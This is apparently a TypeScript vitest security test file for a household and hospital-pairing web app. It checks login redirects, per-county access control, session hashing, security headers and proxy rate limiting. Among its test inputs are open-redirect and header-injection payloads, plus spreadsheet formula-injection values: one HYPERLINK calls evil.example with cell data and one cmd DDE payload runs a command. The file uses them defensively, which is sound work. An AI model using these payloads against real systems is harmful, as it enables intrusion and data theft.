// The holes an attacker with ordinary accounts found, each closed and kept closed: tried over HTTP against a
// running site, as the attacker tried them.
import { createHash } from 'node:crypto';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { areas, households, institutions, memberships, pairingRequests, rateLimits, sessions, users, villages } from '../../db/schema.ts';
import { loadActor } from '../../src/lib/server/auth/scope.ts';
import { signUpForShift } from '../../src/lib/signups/signups.server.ts';
import { publishedClinic } from '../setup/events.ts';
import { RULES } from '../../src/lib/server/auth/rate-limit.ts';
import { DEMO_PASSWORD } from '../../db/seed/demo.ts';
import { demoEmail, sessionCookieFor } from '../setup/demo.ts';
import { type Site, startSite, Visitor } from '../setup/site.ts';

describe('security', () => {
  let site: Site;
  beforeAll(async () => {
    site = await startSite();
  });
  afterAll(() => site?.stop());

  it('after login, goes only to a path on this site, whatever `next` holds', async () => {
    for (const next of ['/\t/evil.example', '/\n/evil.example', '//evil.example', '/\\evil.example', 'https://evil.example/', '/\r\nSet-Cookie:x=1']) {
      const visitor = new Visitor(site);
      const answer = await visitor.post(`/login?_action=accounts.logIn&next=${encodeURIComponent(next)}`, { email: demoEmail('member'), password: DEMO_PASSWORD, next });
      expect(answer.status, JSON.stringify(next)).toBe(302);
      expect(answer.headers.get('location'), JSON.stringify(next)).toBe('/');
    }
    const visitor = new Visitor(site);
    const answer = await visitor.post(`/login?_action=accounts.logIn&next=${encodeURIComponent('/signups')}`, { email: demoEmail('member'), password: DEMO_PASSWORD, next: '/signups' });
    expect(answer.headers.get('location')).toBe('/signups');
  });

  it('a coordinator cannot pair itself into another county’s households; its request opens nothing', async () => {
    const qinyuan = new Visitor(site);
    qinyuan.cookie = await sessionCookieFor(site.db, 'otherCoordinator');
    const own = site.db.select().from(institutions).where(eq(institutions.name, '沁源县人民医院')).get()!.id;
    const village = site.db.select().from(villages).where(eq(villages.name, '刘家屯村')).get()!.id;
    const household = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!.id;
    const pairing = { institutionId: String(own), targetRef: `village:${village}`, startDate: '2019-10-01', obligation: 'monthly' };
    expect((await qinyuan.post(`/institutions/${own}/pairings?_action=pairings.create`, pairing)).status).toBe(403);
    expect((await qinyuan.post(`/institutions/${own}/pairings?_action=pairings.request`, { ...pairing, note: '想看看' })).status).toBe(200);
    expect((await qinyuan.get(`/households/${household}`)).status).toBe(403);
    expect((await qinyuan.post(`/households/${household}?_action=households.revealIdNumber`, { householdId: String(household) })).status).toBe(403);
    // Nor may it approve its own request; nor may the Changchun commission, whose area holds the village but
    // not the hospital.
    const request = site.db.select().from(pairingRequests).where(eq(pairingRequests.institutionId, own)).get()!;
    expect((await qinyuan.post(`/institutions/${own}/pairings?_action=pairings.approve`, { requestId: String(request.id) })).status).toBe(403);
    const commission = new Visitor(site);
    commission.cookie = await sessionCookieFor(site.db, 'bureau');
    expect(await (await commission.get('/admin/pairing-requests')).text()).not.toContain('想看看');
    expect((await commission.post('/admin/pairing-requests?_action=pairings.approve', { requestId: String(request.id) })).status).toBe(403);
    expect((await qinyuan.get(`/households/${household}`)).status).toBe(403);
  });

  it('each bureau administers its own area: Qinyuan\'s runs Qinyuan without Changchun\'s, and neither sees the other\'s households', async () => {
    const changchun = new Visitor(site);
    changchun.cookie = await sessionCookieFor(site.db, 'admin');
    const qinyuan = new Visitor(site);
    qinyuan.cookie = await sessionCookieFor(site.db, 'otherAdmin');
    const sun = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!.id;
    const yin = site.db.select().from(households).where(eq(households.headName, '阴永龙')).get()!.id;
    const hospital = site.db.select().from(institutions).where(eq(institutions.name, '沁源县人民医院')).get()!.id;
    const county = site.db.select().from(areas).where(eq(areas.name, '沁源县')).get()!.id;
    expect((await qinyuan.get(`/households/${yin}`)).status).toBe(200);
    expect((await qinyuan.get(`/households/${sun}`)).status).toBe(403);
    expect((await changchun.get(`/households/${sun}`)).status).toBe(200);
    expect((await changchun.get(`/households/${yin}`)).status).toBe(403);
    expect(await (await changchun.get('/households')).text()).not.toContain('阴永龙');
    expect((await changchun.get(`/institutions/${hospital}/members`)).status).toBe(403);
    // Qinyuan's bureau adds an institution and a village in its county, and makes a coordinator there.
    await qinyuan.post('/admin/institutions?_action=institutions.create', { name: '沁源县中医院', kind: 'hospital', areaId: String(county) });
    const added = site.db.select().from(institutions).where(eq(institutions.name, '沁源县中医院')).get()!;
    expect(added.areaId).toBe(county);
    await qinyuan.post('/villages?_action=places.createVillage', { province: '山西省', city: '长治市', county: '沁源县', township: '法中乡', name: '麻坪村', status: 'poverty_village' });
    expect(site.db.select().from(villages).where(eq(villages.name, '麻坪村')).get()).toBeDefined();
    await qinyuan.post('/admin/users?_action=memberships.add', { email: demoEmail('member'), institutionId: String(added.id), role: 'coordinator' });
    expect(site.db.select().from(memberships).where(eq(memberships.institutionId, added.id)).all().map((m) => m.role)).toEqual(['coordinator']);
    // Changchun's commission can do none of this in Qinyuan, and is told so beside the field.
    const outside = await changchun.post('/villages?_action=places.createVillage', { province: '山西省', city: '长治市', county: '沁源县', township: '法中乡', name: '另一村', status: 'poverty_village' });
    expect(await outside.text()).toContain('该地点不在您管理的区域内');
    expect(site.db.select().from(villages).where(eq(villages.name, '另一村')).get()).toBeUndefined();
    expect((await changchun.post('/admin/users?_action=memberships.add', { email: demoEmail('member'), institutionId: String(hospital), role: 'coordinator' })).status).toBe(403);
    expect((await changchun.post(`/institutions/${added.id}?_action=institutions.update`, { institutionId: String(added.id), name: '改名', kind: 'hospital', areaId: String(county) })).status).toBe(403);
    // Each bureau's user list holds only the people of its area.
    const people = await (await qinyuan.get('/admin/users')).text();
    expect(people).toContain('黄向东');
    expect(people).not.toContain('周毅刚');
  });

  it('writes a name that a spreadsheet would run as a formula as text, in the roster and the tallies', async () => {
    const member = site.db.select().from(users).where(eq(users.email, demoEmail('member'))).get()!;
    site.db.update(users).set({ name: '=HYPERLINK("http://evil.example/?"&A2,"点此")' }).where(eq(users.id, member.id)).run();
    const { eventId, shiftIds } = publishedClinic(site.db, Date.now(), [{ startTime: '09:00', endTime: '12:00', capacity: '5' }], { date: '2099-10-17' });
    signUpForShift(site.db, { actor: loadActor(site.db, member.id), shiftId: shiftIds[0] });
    const coordinator = new Visitor(site);
    coordinator.cookie = await sessionCookieFor(site.db, 'coordinator');
    const roster = await (await coordinator.get(`/api/events/${eventId}/roster.csv`)).text();
    expect(roster).toContain('"\'=HYPERLINK(""http://evil.example/?""&A2,""点此"")"');
    expect(roster).not.toMatch(/(^|,)"?=HYPERLINK/m);

    site.db.update(institutions).set({ name: "=1+cmd|' /C calc'!A0" }).where(eq(institutions.name, '长春市中心医院')).run();
    const admin = new Visitor(site);
    admin.cookie = await sessionCookieFor(site.db, 'admin');
    const tallies = await (await admin.get('/api/tallies.csv')).text();
    expect(tallies).toContain("'=1+cmd|' /C calc'!A0");
    expect(tallies).not.toMatch(/(^|,)"?=1\+cmd/m);
    site.db.update(institutions).set({ name: '长春市中心医院' }).where(eq(institutions.name, "=1+cmd|' /C calc'!A0")).run();
  });

  it('a system operator runs the mail log and the data interface and shapes areas, but reads no institution’s data', async () => {
    const commission = site.db.select().from(institutions).where(eq(institutions.name, '长春市卫生健康委员会')).get()!;
    const operator = new Visitor(site);
    operator.cookie = await sessionCookieFor(site.db, 'operator');
    const household = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!.id;
    const home = await (await operator.get('/')).text();
    expect(home).toContain('href="/admin/mail"');
    expect(home).not.toContain('href="/admin/audit"');
    for (const path of ['/admin/mail', '/admin/api-tokens', '/admin/users', '/admin/institutions', `/institutions/${commission.id}`]) expect((await operator.get(path)).status, path).toBe(200);
    for (const path of [`/households/${household}`, '/admin/audit', `/institutions/${commission.id}/members`, `/institutions/${commission.id}/pairings`, '/tallies', '/admin/pairing-requests']) {
      expect((await operator.get(path)).status, path).toBe(403);
    }
    expect(await (await operator.get('/households')).text()).not.toContain('孙广森');
    // It may make a bureau's administrator, but gives itself nothing.
    const refused = await operator.post('/admin/users?_action=memberships.add', { email: demoEmail('operator'), institutionId: String(commission.id), role: 'admin' });
    expect(refused.status).toBe(400);
    expect(await refused.text()).toContain('不能给自己授予角色');
    expect(site.db.select().from(memberships).where(eq(memberships.role, 'admin')).all().map((m) => m.userId)).not.toContain(site.db.select().from(users).where(eq(users.email, demoEmail('operator'))).get()!.id);
  });

  it('keeps only the hash of a session id, so a copy of the database opens no session', async () => {
    const visitor = new Visitor(site);
    await visitor.post('/login?_action=accounts.logIn', { email: demoEmail('coordinator'), password: DEMO_PASSWORD });
    const id = /yizhen_session=([^;]+)/.exec(visitor.cookie)![1];
    const kept = site.db.select({ id: sessions.id }).from(sessions).all().map((s) => s.id);
    expect(kept).not.toContain(id);
    expect(kept).toContain(createHash('sha256').update(id).digest('hex'));
    expect((await visitor.get('/account')).status).toBe(200);
    // The stored value itself, sent as a cookie, opens nothing.
    const thief = new Visitor(site);
    thief.cookie = `yizhen_session=${createHash('sha256').update(id).digest('hex')}`;
    expect((await thief.get('/account')).status).toBe(302);
  });

  it('answers any page number with a page, never an error', async () => {
    const visitor = new Visitor(site);
    visitor.cookie = await sessionCookieFor(site.db, 'admin');
    for (const page of ['9e999', '-5', '0', 'abc', '1.5', '99999999999999999999', '10001']) {
      expect((await visitor.get(`/admin/audit?page=${page}`)).status, `audit page ${page}`).toBeLessThan(500);
      const followUps = await visitor.get(`/institutions/1/follow-ups?page=${page}`);
      expect(followUps.status, `follow-ups page ${page}`).toBe(200);
    }
  });

  it('sends pages with a strict script policy, never framed, never sniffed, personal pages never cached', async () => {
    const visitor = new Visitor(site);
    visitor.cookie = await sessionCookieFor(site.db, 'coordinator');
    const household = site.db.select().from(households).where(eq(households.headName, '孙广森')).get()!;
    for (const path of [`/households/${household.id}`, '/tallies', '/map', `/households/${household.id}/handbook`]) {
      const page = await visitor.get(path);
      expect(page.status, path).toBe(200);
      const policy = page.headers.get('content-security-policy') ?? '';
      expect(policy).toContain("script-src 'self';");
      expect(policy).toContain("frame-ancestors 'none'");
      expect(policy).toContain("object-src 'none'");
      expect(page.headers.get('x-content-type-options')).toBe('nosniff');
      expect(page.headers.get('referrer-policy')).toBe('same-origin');
      expect(page.headers.get('cache-control')).toBe('private, no-store');
      expect(page.headers.get('content-type')).toBe('text/html; charset=utf-8');
      // Every script is a file of the site's, so the policy needs no exception for inline code.
      const scripts = [...(await page.text()).matchAll(/<script\b[^>]*>/g)].map(([tag]) => tag);
      expect(scripts.filter((tag) => !/\ssrc="\/_astro\//.test(tag)), path).toEqual([]);
    }
    const asset = await visitor.get(/href="(\/_astro\/[^"]+\.css)"/.exec(await (await visitor.get('/')).text())![1]);
    expect(asset.headers.get('x-content-type-options')).toBe('nosniff');
    // A redirect carries them too.
    const redirect = await new Visitor(site).get('/households');
    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('x-frame-options')).toBe('DENY');
  });
});

describe('behind a trusted reverse proxy', () => {
  let site: Site;
  beforeAll(async () => {
    site = await startSite({ TRUSTED_PROXIES: '127.0.0.1' });
  });
  afterAll(() => site?.stop());

  const logIn = (forwardedFor: string) =>
    fetch(`${site.url}/login?_action=accounts.logIn`, {
      method: 'POST',
      redirect: 'manual',
      headers: { Origin: site.url, 'Content-Type': 'application/x-www-form-urlencoded', 'X-Forwarded-For': forwardedFor },
      body: new URLSearchParams({ email: 'nobody@example.cn', password: 'guess' }).toString(),
    });

  it('counts failed logins by the client the proxy names, not by the proxy', async () => {
    site.db.insert(rateLimits).values({ key: 'login:address:203.0.113.7', windowStart: Date.now(), count: RULES.loginFailuresPerAddress.limit }).run();
    expect((await logIn('203.0.113.7')).status).toBe(429);
    // What the client writes before its own address is not believed.
    expect((await logIn('203.0.113.7, 203.0.113.8')).status).toBe(400);
    expect((await logIn('203.0.113.9')).status).toBe(400);
  });
});
